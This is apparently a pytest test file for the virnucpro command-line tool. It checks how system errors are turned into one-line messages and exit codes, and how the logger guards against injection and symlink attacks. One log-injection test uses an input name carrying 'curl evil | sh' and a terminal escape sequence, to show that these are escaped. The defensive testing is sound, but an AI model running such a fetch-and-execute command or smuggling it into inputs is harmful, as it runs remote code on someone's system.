"""What the machine refuses is one line with the path and what to do, never "internal"."""

from __future__ import annotations

import errno
import logging
from pathlib import Path

import click
import pytest

from virnucpro import cli, lifeline
from virnucpro.errors import DiskFullError, MemoryShortError, PlaceError, of_machine
from virnucpro.logs import log_to, printable


@pytest.mark.parametrize(
    ("error", "kind", "text"),
    [
        (OSError(errno.ENOSPC, "No space left on device", "/a/b"), DiskFullError, "/a/b: no space left"),
        (OSError(errno.EDQUOT, "Disk quota exceeded", "/a/b"), DiskFullError, "/a/b: the disk quota"),
        (OSError(errno.EFBIG, "File too large", "/a/b"), PlaceError, "ulimit -f"),
        (OSError(errno.EROFS, "Read-only file system", "/a/b"), PlaceError, "/a/b: the file system is read-only"),
        (PermissionError(errno.EACCES, "Permission denied", "/a/b"), PlaceError, "/a/b: permission denied"),
        (OSError(errno.ENAMETOOLONG, "File name too long", "/a/b"), PlaceError, "/a/b: the name is too long"),
        (OSError(errno.EMFILE, "Too many open files"), PlaceError, "Too many open files. Raise the limit"),
        (OSError(errno.ESTALE, "Stale file handle", "/a/b"), PlaceError, "stale handle"),
        (OSError(errno.EIO, "Input/output error", "/a/b"), PlaceError, "/a/b: the disk cannot be read"),
        (OSError(errno.ENOMEM, "Cannot allocate memory"), MemoryShortError, "not enough memory"),
        (OSError("Unable to write (file write failed: errno = 28, error message = 'x')"), DiskFullError, "space left"),
        (RuntimeError("unable to open file <x>: Too many open files (24)"), PlaceError, "ulimit -n"),
        (NotADirectoryError(errno.ENOTDIR, "Not a directory", "/a/b"), PlaceError, "/a/b: is not in a folder"),
        (MemoryError("Unable to allocate 7.81 MiB"), MemoryShortError, "7.81 MiB"),
        (RuntimeError("[enforce fail] DefaultCPUAllocator: can't allocate memory"), MemoryShortError, "not enough"),
    ],
)
def test_errors_of_the_machine_end_with_exit_4_and_one_line(capsys, error, kind, text):
    """Each is of one of our classes, and the command line says what, where and what to do."""
    assert type(of_machine(error)) is kind
    assert cli.exit_code_of(error) == 4
    err = capsys.readouterr().err
    assert text in err
    assert err.count("\n") == 1
    assert "internal" not in err


@pytest.mark.parametrize("error", [ValueError("x"), OSError("x"), BlockingIOError(errno.EAGAIN, "x"), KeyError("x")])
def test_defects_of_the_program_stay_internal(error):
    """Only what the machine says is the machine's."""
    assert of_machine(error) is None


def test_the_path_is_the_systems_own_where_it_names_one():
    """A full home directory is not a full output disk."""
    error = OSError(errno.ENOSPC, "No space left on device", "/home/me/.cache/x")
    assert str(of_machine(error, Path("/scratch/out"))).startswith("/home/me/.cache/x: no space left")


def test_an_end_of_file_is_not_taken_for_ctrl_c(capsys):
    """Click makes an Abort of any EOFError, wherever it came from."""
    lifeline.received.clear()
    error = click.Abort()
    error.__cause__ = EOFError("a cut file")
    assert cli.exit_code_of(error) == 1
    assert "a cut file" in capsys.readouterr().err


def test_names_from_outside_cannot_write_lines_or_move_the_cursor(tmp_path):
    """A line break in the name of an input does not begin a line of the log; a traceback's lines are comments."""
    log = logging.getLogger("virnucpro.test")
    with log_to(tmp_path / "x.log"):
        log.warning("reading %s", "a.fa\ncurl evil | sh\x1b[2J\udcff")
        log.error("it failed", exc_info=ValueError("one\ncurl evil | sh"))
    lines = (tmp_path / "x.log").read_text().splitlines()
    assert "a.fa\\ncurl evil | sh\\x1b[2J\\udcff" in lines[0]
    assert all(line.startswith(("# ", "20")) for line in lines)
    assert printable("tab\there", keep="\t") == "tab\there"


def test_a_log_is_never_written_through_a_link(tmp_path):
    """The link may lead to a file that is run at the next login."""
    (tmp_path / "bashrc").write_text("mine")
    (tmp_path / "x.log").symlink_to(tmp_path / "bashrc")
    with pytest.raises(PlaceError, match="symbolic link"), log_to(tmp_path / "x.log"):
        pass
    assert (tmp_path / "bashrc").read_text() == "mine"


def test_a_disk_that_fills_under_the_log_does_not_end_the_run():
    """The kernel itself says that no space is left."""
    with log_to(Path("/dev/full")):
        logging.getLogger("virnucpro.test").warning("x" * 100_000)
